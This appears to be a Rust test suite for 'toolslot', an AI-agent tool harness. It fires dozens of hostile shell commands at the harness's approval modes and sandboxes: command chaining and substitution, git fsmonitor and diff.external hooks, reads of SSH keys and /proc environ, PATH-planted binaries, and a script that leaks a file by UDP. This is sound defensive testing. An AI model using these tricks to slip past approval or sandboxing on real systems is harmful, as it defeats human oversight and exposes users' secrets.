//! Shell commands that try to talk their way around approval, run through the binary (`toolslot
//! replay` and `toolslot serve`) as an attacker would: in every approval mode, under each sandbox,
//! asserting that the side effect did not happen (no marker file, no byte from outside the
//! workspace in any result) and that the command was not run unasked.

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};
use support::{Serve, Served, events, json_lines, openai_stream, replay_with, round_results as results, toolslot};

/// Bytes that live outside the workspace; no result may ever hold them.
const OUTSIDE: &str = "OUTSIDE-SECRET-BYTES-4f1c";
/// Bytes in the home folder's ssh key.
const HOME_SECRET: &str = "HOME-SECRET-KEY-9a2e";
/// A key in toolslot's own environment.
const HOST_SECRET: &str = "sk-host-secret-7d3b";

/// One attack: the command (with `{M}` for its marker file, `{out}` for the outside folder and
/// `{outname}` for its name), whether it must be asked before it runs (false: the judge may
/// call it read-only, and the sandbox must make it harmless), and whether it runs in the
/// background.
struct Attack {
    command: &'static str,
    asks: bool,
    background: bool,
}

const fn ask(command: &'static str) -> Attack {
    Attack {
        command,
        asks: true,
        background: false,
    }
}

/// The attack set: every class of issue #12 with its variants.
const ATTACKS: &[Attack] = &[
    // 1. A command that is not plain is never Auto.
    ask("ls\ntouch {M}"),
    ask("ls\r\ntouch {M}"),
    ask("ls\rtouch {M}"),
    ask("ls\n\ntouch {M}"),
    ask("echo ok # comment\ntouch {M}"),
    ask("ls; touch {M}"),
    ask("ls && touch {M}"),
    ask("false || touch {M}"),
    ask("ls | touch {M}"),
    ask("ls & touch {M}"),
    ask("ls &\ntouch {M}"),
    ask("ls $(touch {M})"),
    ask("ls \"$(touch {M})\""),
    ask("ls `touch {M}`"),
    ask("cat <(touch {M})"),
    ask("ls ${X:-$(touch {M})}"),
    ask("ls > {M}"),
    ask("ls >> {M}"),
    ask("ls 2> {M}"),
    ask("ls >{M} 2>&1"),
    ask("cat <<EOF > {M}\nx\nEOF"),
    ask("cat <<< x > {M}"),
    ask("A=$(touch {M}) ls"),
    ask("GIT_DIR=. git status > {M}"),
    ask("(touch {M})"),
    ask("{ touch {M}; }"),
    ask("f() { touch {M}; }; f"),
    ask("if true; then touch {M}; fi"),
    ask("for x in 1; do touch {M}; done"),
    ask("! touch {M}"),
    ask("ec\\\nho x > {M}"),
    ask("eval touch {M}"),
    ask("sh -c 'touch {M}'"),
    ask("env touch {M}"),
    ask("nice touch {M}"),
    ask("timeout 5 touch {M}"),
    ask("command touch {M}"),
    ask("exec touch {M}"),
    Attack {
        command: "ls\ntouch {M}",
        asks: true,
        background: true,
    },
    Attack {
        command: "sleep 0; touch {M}",
        asks: true,
        background: true,
    },
    // 2. Read-only is true: no write, no program run, no read outside, no endless output.
    ask("find . -fprint0 {M}"),
    ask("find . -fprint {M}"),
    ask("find . -fprintf {M} %p"),
    ask("find . -fls {M}"),
    ask("find . -exec touch {M} {} +"),
    ask("find . -execdir touch {M} ;"),
    ask("find . -ok touch {M} ;"),
    ask("find . -name KEEP -delete"),
    ask("git log --output={M}"),
    ask("git log --output {M}"),
    ask("git log --outp={M}"),
    ask("git diff --output={M}"),
    ask("git show --output={M}"),
    ask("git -c core.fsmonitor='touch {M}' status"),
    ask("git --config-env=core.fsmonitor=X status"),
    ask("git --git-dir={out} status"),
    ask("git -C {out} status"),
    ask("git diff --no-index {out}/secret.txt data.txt"),
    ask("sort -o {M} data.txt"),
    ask("sort -o{M} data.txt"),
    ask("sort --output={M} data.txt"),
    ask("sort --compress-program=touch data.txt"),
    ask("tee {M}"),
    ask("echo x | tee {M}"),
    ask("uniq data.txt {M}"),
    ask("tree -o {M}"),
    ask("awk 'BEGIN{system(\"touch {M}\")}'"),
    ask("sed -i s/alpha/beta/ data.txt"),
    ask("sed -n '1e touch {M}' data.txt"),
    ask("echo {M} | xargs touch"),
    ask("less data.txt"),
    ask("more data.txt"),
    ask("rg --pre touch x"),
    ask("cat {out}/secret.txt"),
    ask("cat ../{outname}/secret.txt"),
    ask("cat .*/{outname}/secret.txt"),
    ask("cat ~/.ssh/id_rsa"),
    ask("grep -r SECRET {out}"),
    ask("grep -r SECRET .."),
    ask("grep -f {out}/secret.txt data.txt"),
    ask("head -c 400000000 /dev/zero"),
    ask("cat /dev/urandom"),
    ask("env"),
    ask("printenv"),
    ask("cat /proc/$PPID/environ"),
    ask("cat /proc/self/environ"),
    // Read-only by every word, but the link leads out: the sandbox's view must stop it.
    Attack {
        command: "cat link",
        asks: false,
        background: false,
    },
    Attack {
        command: "grep -r SECRET .",
        asks: false,
        background: false,
    },
    Attack {
        command: "ls -la linkdir/",
        asks: false,
        background: false,
    },
];

/// A workspace with something to read, a folder beside it holding a secret, a home folder with
/// an ssh key, and the way out a link offers.
struct Bed {
    dir: tempfile::TempDir,
}

impl Bed {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let bed = Bed { dir };
        std::fs::create_dir(bed.ws()).unwrap();
        std::fs::create_dir(bed.out()).unwrap();
        std::fs::create_dir_all(bed.home().join(".ssh")).unwrap();
        std::fs::write(bed.out().join("secret.txt"), format!("SECRET {OUTSIDE}\n")).unwrap();
        std::fs::write(bed.home().join(".ssh/id_rsa"), format!("SECRET {HOME_SECRET}\n")).unwrap();
        std::fs::write(bed.ws().join("data.txt"), "alpha\nbeta\n").unwrap();
        std::fs::write(bed.ws().join("KEEP"), "keep me\n").unwrap();
        std::os::unix::fs::symlink(bed.out().join("secret.txt"), bed.ws().join("link")).unwrap();
        std::os::unix::fs::symlink(bed.out(), bed.ws().join("linkdir")).unwrap();
        bed
    }
    fn ws(&self) -> PathBuf {
        self.dir.path().join("ws")
    }
    fn out(&self) -> PathBuf {
        self.dir.path().join("outside")
    }
    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }
    fn config(&self, extra: &str) -> PathBuf {
        let file = self.dir.path().join("toolslot.toml");
        std::fs::write(
            &file,
            format!("[overflow]\ndir = \"{}\"\n{extra}\n", self.dir.path().join("overflow").display()),
        )
        .unwrap();
        file
    }
    fn fill(&self, template: &str, n: usize) -> String {
        template
            .replace("{M}", &format!("PWNED-{n}"))
            .replace("{outname}", "outside")
            .replace("{out}", &self.out().display().to_string())
    }
    /// The markers any attack left, and whether a file meant to stay was changed.
    fn damage(&self, count: usize) -> Vec<String> {
        let mut found = Vec::new();
        for n in 0..count {
            for dir in [self.ws(), self.out(), self.dir.path().to_path_buf()] {
                if dir.join(format!("PWNED-{n}")).exists() {
                    found.push(format!("{}/PWNED-{n}", dir.display()));
                }
            }
        }
        if !self.ws().join("KEEP").exists() {
            found.push("KEEP was deleted".into());
        }
        if std::fs::read_to_string(self.ws().join("data.txt")).unwrap() != "alpha\nbeta\n" {
            found.push("data.txt was changed".into());
        }
        found
    }
    fn calls(&self) -> Vec<(&'static str, Value)> {
        ATTACKS
            .iter()
            .enumerate()
            .map(|(n, a)| {
                let mut input = json!({"command": self.fill(a.command, n)});
                if a.background {
                    input["background"] = json!(true);
                }
                ("exec_shell", input)
            })
            .collect()
    }
    /// Runs one round through `toolslot replay`: its events.
    fn replay(&self, config: &Path, approve: &str, rounds: &[String]) -> Vec<Value> {
        let mut cmd = toolslot();
        cmd.env("HOME", self.home())
            .env("OPENAI_API_KEY", HOST_SECRET)
            .env("DATABASE_URL", format!("postgres://u:{HOST_SECRET}@db/x"));
        let out = replay_with(cmd, self.dir.path(), &self.ws(), config, approve, rounds);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        json_lines(&out.stdout)
    }
}

/// Whether call `index` of a round ran without being asked (its approval was neither asked nor
/// refused).
fn ran_unasked(events: &[Value], index: usize) -> bool {
    let asked = events.iter().any(|e| e["type"] == "approval_required" && e["index"] == index);
    let result = results(events).into_iter().find(|r| r["index"] == index).unwrap();
    !asked && !result["content"].as_str().unwrap().contains("not_approved")
}

fn assert_harmless(bed: &Bed, events: &[Value], what: &str) {
    let damage = bed.damage(ATTACKS.len());
    assert!(damage.is_empty(), "{what}: the attack set did damage: {damage:?}");
    for r in results(events) {
        let content = r["content"].as_str().unwrap();
        let cmd = ATTACKS.get(r["index"].as_u64().unwrap() as usize).map_or("", |a| a.command);
        for secret in [OUTSIDE, HOME_SECRET, HOST_SECRET] {
            assert!(!content.contains(secret), "{what}: `{cmd}` printed a secret: {content}");
        }
        assert!(content.len() < 200_000, "{what}: `{cmd}` printed without end");
    }
}

#[test]
fn the_attack_set_does_nothing_in_any_mode_under_any_sandbox() {
    for (mode, sandbox) in [
        ("read-only", "auto"),
        ("ask", "auto"),
        ("auto-edit", "auto"),
        ("ask", "landlock"),
        ("auto-edit", "landlock"),
        ("ask", "none"),
    ] {
        let bed = Bed::new();
        let config = bed.config(&format!("[approval]\nmode = \"{mode}\"\n[shell]\nsandbox = \"{sandbox}\"\n"));
        let events = bed.replay(&config, "none", &[openai_stream(&bed.calls())]);
        assert_eq!(results(&events).len(), ATTACKS.len());
        // Background tasks had time to do their worst.
        std::thread::sleep(Duration::from_millis(300));
        let what = format!("{mode} under {sandbox}");
        assert_harmless(&bed, &events, &what);
        for (n, a) in ATTACKS.iter().enumerate() {
            if a.asks || sandbox == "none" {
                assert!(!ran_unasked(&events, n), "{what}: `{}` ran without approval", a.command);
            }
        }
        if sandbox == "none" {
            let told = events
                .iter()
                .filter(|e| e["type"] == "notice" && e["kind"] == "sandbox_unavailable")
                .count();
            assert_eq!(told, 1, "{what}: the session is told once that everything asks");
        }
    }
}

#[test]
fn a_hostile_checkout_cannot_run_code_through_read_only_git() {
    for sandbox in ["auto", "landlock"] {
        let bed = Bed::new();
        let ws = bed.ws();
        let git = |args: &[&str]| support::git(&ws, args);
        git(&["init", "-q"]);
        git(&["add", "data.txt"]);
        git(&["commit", "-qm", "one"]);
        std::fs::write(ws.join("data.txt"), "alpha\nchanged\n").unwrap();
        // A listener the checkout's program would send what it read to, by UDP (over which
        // Landlock has no rule).
        let heard = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        heard.set_nonblocking(true).unwrap();
        std::fs::write(
            ws.join("leak.py"),
            format!(
                "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open('data.txt', 'rb').read(), ('127.0.0.1', {}))\nexcept OSError:\n    pass\n",
                heard.local_addr().unwrap().port()
            ),
        )
        .unwrap();
        // The checkout came with a config that runs programs from `git status` and `git diff`.
        let hostile = format!(
            "\n[core]\n\tfsmonitor = /usr/bin/python3 {ws}/leak.py; touch {ws}/PWNED-0; touch {out}/PWNED-0; echo\n[diff]\n\texternal = cat {out}/secret.txt; cat ~/.ssh/id_rsa; true\n",
            ws = ws.display(),
            out = bed.out().display()
        );
        let cfg = ws.join(".git/config");
        let mut text = std::fs::read_to_string(&cfg).unwrap();
        text.push_str(&hostile);
        std::fs::write(&cfg, text).unwrap();
        for mode in ["read-only", "ask", "full-auto"] {
            let config = bed.config(&format!("[approval]\nmode = \"{mode}\"\n[shell]\nsandbox = \"{sandbox}\"\n"));
            let calls = openai_stream(&[
                ("exec_shell", json!({"command": "git status"})),
                ("exec_shell", json!({"command": "git diff"})),
                ("exec_shell", json!({"command": "git log -p -1"})),
            ]);
            let events = bed.replay(&config, "none", &[calls]);
            let what = format!("{mode} under {sandbox}");
            assert!(
                !ws.join("PWNED-0").exists() && !bed.out().join("PWNED-0").exists(),
                "{what}: fsmonitor ran with write access"
            );
            for r in results(&events) {
                let content = r["content"].as_str().unwrap();
                assert!(!content.contains(OUTSIDE) && !content.contains(HOME_SECRET), "{what}: {content}");
            }
            // They did run, unasked: read-only commands stay usable.
            assert!(ran_unasked(&events, 0), "{what}: git status asked");
            let mut buf = [0u8; 256];
            assert!(
                heard.recv_from(&mut buf).is_err(),
                "{what}: the checkout's program sent a datagram out"
            );
        }
    }
}

#[test]
fn a_checkout_named_by_a_relative_path_folder_supplies_neither_the_sandbox_nor_the_shell() {
    // toolslot run in the checkout with `node_modules/.bin` and an empty entry (the current
    // folder) on its PATH: the checkout's `bwrap` and `sh` would run in place of the host's.
    for sandbox in ["auto", "landlock"] {
        let bed = Bed::new();
        let ws = bed.ws();
        let planted = format!(
            "#!/bin/sh\ntouch {}/PWNED-0\nexec /usr/bin/env -i PATH=/usr/bin:/bin \"$(basename \"$0\")\" \"$@\"\n",
            bed.out().display()
        );
        // And an activated virtual environment of the checkout's: an absolute folder, where
        // toolslot must not look for its sandbox either.
        let venv = ws.join(".venv/bin");
        std::fs::create_dir_all(&venv).unwrap();
        std::fs::write(venv.join("bwrap"), &planted).unwrap();
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(venv.join("bwrap"), std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        for dir in [ws.join("node_modules/.bin"), ws.clone()] {
            std::fs::create_dir_all(&dir).unwrap();
            for name in ["bwrap", "sh"] {
                let file = dir.join(name);
                std::fs::write(&file, &planted).unwrap();
                use std::os::unix::fs::PermissionsExt;
                std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
        }
        let config = bed.config(&format!("[approval]\nmode = \"full-auto\"\n[shell]\nsandbox = \"{sandbox}\"\n"));
        let mut cmd = toolslot();
        cmd.current_dir(&ws).env("HOME", bed.home()).env(
            "PATH",
            format!(
                "{}:node_modules/.bin::{}:",
                venv.display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        );
        let calls = openai_stream(&[
            ("exec_shell", json!({"command": "echo hello"})),
            ("exec_shell", json!({"command": "touch made"})),
        ]);
        let out = replay_with(cmd, bed.dir.path(), &ws, &config, "none", &[calls]);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let events = json_lines(&out.stdout);
        let what = format!("under {sandbox}");
        assert!(!bed.out().join("PWNED-0").exists(), "{what}: the checkout's program ran");
        let r = results(&events);
        assert!(r[0]["content"].as_str().unwrap().contains("hello"), "{what}: {:?}", r[0]);
        assert!(
            ws.join("made").exists(),
            "{what}: the host's shell did not run the approved write: {:?}",
            r[1]
        );
    }
}

#[test]
fn an_mcp_server_started_from_a_checkout_runs_none_of_its_code() {
    // `python3 -m server` reads its current folder first: started in the checkout toolslot
    // runs in, the checkout's `server.py` would run outside any sandbox. A server starts in
    // the home folder, or the `cwd` its table names.
    let bed = Bed::new();
    let ws = bed.ws();
    let module = |dir: &Path, marker: &Path| {
        std::fs::create_dir_all(dir).unwrap();
        std::fs::write(
            dir.join("planted_server.py"),
            format!("open({:?}, 'w').write('ran')\n", marker.display().to_string()),
        )
        .unwrap();
    };
    let planted = bed.out().join("PWNED-0");
    module(&ws, &planted);
    let chosen_dir = bed.dir.path().join("servers");
    let chosen = bed.dir.path().join("chosen-ran");
    module(&chosen_dir, &chosen);
    let server = |name: &str, cwd: &str| {
        format!(
            "[[mcp.servers]]\nname = \"{name}\"\ncommand = [\"python3\", \"-m\", \"planted_server\"]\ndefer = false\nstartup_timeout_ms = 20000\n{cwd}"
        )
    };
    // An argument naming the current folder, with no `cwd` to say which: refused, named.
    let dotted = "[[mcp.servers]]\nname = \"dotted\"\ncommand = [\"python3\", \"-m\", \"planted_server\", \".\"]\ndefer = false\n";
    let config = bed.config(&format!(
        "[mcp]\ntool_cache_dir = \"\"\n{}{}{dotted}",
        server("planted", ""),
        server("chosen", &format!("cwd = \"{}\"\n", chosen_dir.display()))
    ));
    let mut cmd = toolslot();
    cmd.current_dir(&ws).env("HOME", bed.home());
    let out = replay_with(
        cmd,
        bed.dir.path(),
        &ws,
        &config,
        "none",
        &[openai_stream(&[("exec_shell", json!({"command": "echo hi"}))])],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!planted.exists(), "the checkout's module ran as an MCP server");
    assert!(chosen.exists(), "the server did not start in the folder its `cwd` names");
    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(
        said.contains("server `dotted`: its argument `.` is a relative path") && said.contains("set `cwd`"),
        "{said}"
    );
}

#[test]
fn the_write_tools_refuse_the_files_that_steer_execution() {
    let bed = Bed::new();
    let ws = bed.ws();
    assert!(
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&ws)
            .status()
            .unwrap()
            .success()
    );
    let before = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    let config = bed.config("[approval]\nmode = \"auto-edit\"\n");
    let evil = format!("[core]\n\tfsmonitor = touch {}/PWNED-0\n", ws.display());
    let calls = openai_stream(&[
        ("write_file", json!({"path": ".git/config", "content": evil})),
        (
            "write_file",
            json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ntouch PWNED-0\n"}),
        ),
        ("edit_file", json!({"path": ".git/config", "search": "[core]", "replace": evil})),
        ("write_file", json!({"path": ".toolslot/policy.toml", "content": "x"})),
        ("exec_shell", json!({"command": "git status"})),
    ]);
    let events = bed.replay(&config, "none", &[calls]);
    let results = results(&events);
    for r in &results[..4] {
        let content = r["content"].as_str().unwrap();
        assert!(r["is_error"] == true && content.contains("tools.protected"), "{content}");
    }
    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), before);
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert!(!ws.join("PWNED-0").exists());
}

/// Approve `first` for the session, then ask for `then`: `then` must be asked (and is rejected).
/// Run without a sandbox, where every command asks, as in the attack that found the defect.
#[test]
fn approval_for_the_session_never_widens_to_code() {
    let pairs: &[(&str, &str)] = &[
        ("git -C . status", "git -c core.fsmonitor='touch PWNED-0' status"),
        ("git status", "./git status"),
        ("find . -name '*.tmp' -delete", "find . -exec touch PWNED-0 {} +"),
        ("python3 -c 'print(1)'", "python3 -c \"import os; os.system('touch PWNED-0')\""),
        ("node -e 'console.log(1)'", "node -e \"require('fs').writeFileSync('PWNED-0', '')\""),
        ("make test", "make test -f evil.mk"),
        ("make test", "make test CC='touch PWNED-0'"),
        (
            "cargo build --offline",
            "cargo build --offline --config 'build.rustc-wrapper=\"./wrap\"'",
        ),
        ("npm run build", "npm install ./evil"),
        ("git push origin main", "git push origin +main"),
    ];
    // Under a sandbox the two `git status` are read-only: they run unasked, so no approval is
    // recorded for them to widen.
    for (sandbox, mode, pairs) in [("none", "ask", pairs), ("auto", "auto-edit", &pairs[2..])] {
        for (first, then) in pairs {
            let bed = Bed::new();
            let ws = bed.ws();
            std::fs::write(ws.join("git"), "#!/bin/sh\ntouch PWNED-0\n").unwrap();
            std::fs::write(ws.join("wrap"), "#!/bin/sh\ntouch PWNED-0\n").unwrap();
            use std::os::unix::fs::PermissionsExt;
            for f in ["git", "wrap"] {
                std::fs::set_permissions(ws.join(f), std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            std::fs::write(ws.join("Makefile"), "test:\n\t@echo tested\n").unwrap();
            std::fs::write(ws.join("evil.mk"), "test:\n\t@touch PWNED-0\n").unwrap();
            let config = bed.config(&format!("[approval]\nmode = \"{mode}\"\n[shell]\nsandbox = \"{sandbox}\"\n"));
            let rounds = [
                openai_stream(&[("exec_shell", json!({"command": first}))]),
                openai_stream(&[("exec_shell", json!({"command": then}))]),
            ];
            let events = bed.replay(&config, "session,none", &rounds);
            let what = format!("{sandbox}/{mode}: `{then}` after `{first}`");
            let second = events.iter().rposition(|e| e["type"] == "round_complete").unwrap();
            let first_end = events.iter().position(|e| e["type"] == "round_complete").unwrap();
            let round2 = &events[first_end + 1..=second];
            assert!(
                !round2
                    .iter()
                    .any(|e| e["type"] == "approval_decided" && e["decision"] == "cached_approval"),
                "{what}: covered by the first approval"
            );
            assert!(!ws.join("PWNED-0").exists(), "{what}: ran");
        }
    }
}

#[test]
fn commands_and_extensions_get_the_core_environment_and_never_toolslots() {
    let bed = Bed::new();
    let secrets = [
        ("DATABASE_URL", "postgres://u:dbpass-1@h/x"),
        ("MYSQL_PWD", "mysql-pass-2"),
        ("GITHUB_AUTH", "auth-3"),
        ("AUTHORIZATION", "Bearer auth-4"),
        ("SENTRY_DSN", "https://k-5@sentry/1"),
        ("TLS_PEM", "pem-6"),
        ("SLACK_WEBHOOK_URL", "https://hooks/7"),
        ("OPENAI_API_KEY", "sk-8"),
    ];
    for sandbox in ["auto", "landlock", "none"] {
        let config = bed.config(&format!(
            r#"[approval]
mode = "full-auto"
[shell]
sandbox = "{sandbox}"
[[extensions]]
name = "show_env"
description = "Shows its environment"
command = ["sh", "-c", "cat > /dev/null; env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null"]
input_schema = '{{"type":"object","properties":{{}}}}'
capabilities = ["read_only"]
"#
        ));
        let stream = openai_stream(&[
            ("exec_shell", json!({"command": "env"})),
            ("exec_shell", json!({"command": "cat /proc/$PPID/environ"})),
            (
                "exec_shell",
                json!({"command": "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null; true"}),
            ),
            ("show_env", json!({})),
        ]);
        let dir = bed.dir.path().join(format!("s-{sandbox}.sse"));
        std::fs::write(&dir, stream).unwrap();
        let mut cmd = toolslot();
        for (k, v) in secrets {
            cmd.env(k, v);
        }
        let out = cmd
            .args(["replay", "--approve", "all", "--workspace"])
            .arg(bed.ws())
            .arg("--config")
            .arg(&config)
            .arg(&dir)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let stdout = String::from_utf8(out.stdout).unwrap();
        let last: Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
        let env = last["results"][0]["content"].as_str().unwrap();
        assert!(env.contains("PATH="), "{sandbox}: {env}");
        for (name, value) in secrets {
            for r in last["results"].as_array().unwrap() {
                let content = r["content"].as_str().unwrap();
                // With no sandbox, root reads /proc of every process: that is the host's job
                // (the session was told); the environment handed to the child is still clean.
                if sandbox == "none" && r["index"] != 0 {
                    continue;
                }
                assert!(
                    !content.contains(value),
                    "{sandbox}: `{name}` reached call {}: {content}",
                    r["index"]
                );
            }
        }
    }
}

#[test]
fn a_sandbox_denial_is_visible_in_the_result() {
    let bed = Bed::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    for sandbox in ["auto", "landlock"] {
        let config = bed.config(&format!(
            "[approval]\nmode = \"full-auto\"\n[network]\npolicy = \"deny\"\n[shell]\nsandbox = \"{sandbox}\"\n"
        ));
        let stream = openai_stream(&[
            ("exec_shell", json!({"command": "touch /usr/PWNED-0"})),
            (
                "exec_shell",
                json!({"command": format!("python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'")}),
            ),
        ]);
        let events = bed.replay(&config, "all", &[stream]);
        let r = results(&events);
        let write = r[0]["content"].as_str().unwrap();
        assert!(
            write.contains("[sandbox: refused a write outside the workspace"),
            "{sandbox}: {write}"
        );
        let connect = r[1]["content"].as_str().unwrap();
        assert!(connect.contains("[sandbox: refused a connection"), "{sandbox}: {connect}");
        assert!(!Path::new("/usr/PWNED-0").exists());
    }
}

// ---- the same through `toolslot serve` ----

fn serve(bed: &Bed, extra: &str) -> Served {
    Serve::in_dir(bed.dir.path(), &bed.ws())
        .env("HOME", bed.home())
        .env("OPENAI_API_KEY", HOST_SECRET)
        .config(&format!("[execution]\napproval_timeout_ms = 1\n{extra}"))
        .start()
}

#[test]
fn the_attack_set_does_nothing_through_serve() {
    for (mode, sandbox) in [("read-only", "auto"), ("ask", "auto"), ("auto-edit", "landlock")] {
        let bed = Bed::new();
        let server = serve(&bed, &format!("[shell]\nsandbox = \"{sandbox}\"\n"));
        let id = server.session_as(&bed.ws(), mode);
        let (_, answer) = server.http("POST", &format!("/v1/sessions/{id}/rounds"), openai_stream(&bed.calls()).as_bytes());
        let events = events(&answer);
        assert_eq!(results(&events).len(), ATTACKS.len(), "{answer}");
        std::thread::sleep(Duration::from_millis(300));
        let what = format!("serve {mode} under {sandbox}");
        assert_harmless(&bed, &events, &what);
        for (n, a) in ATTACKS.iter().enumerate() {
            if a.asks {
                assert!(!ran_unasked(&events, n), "{what}: `{}` ran without approval", a.command);
            }
        }
    }
}
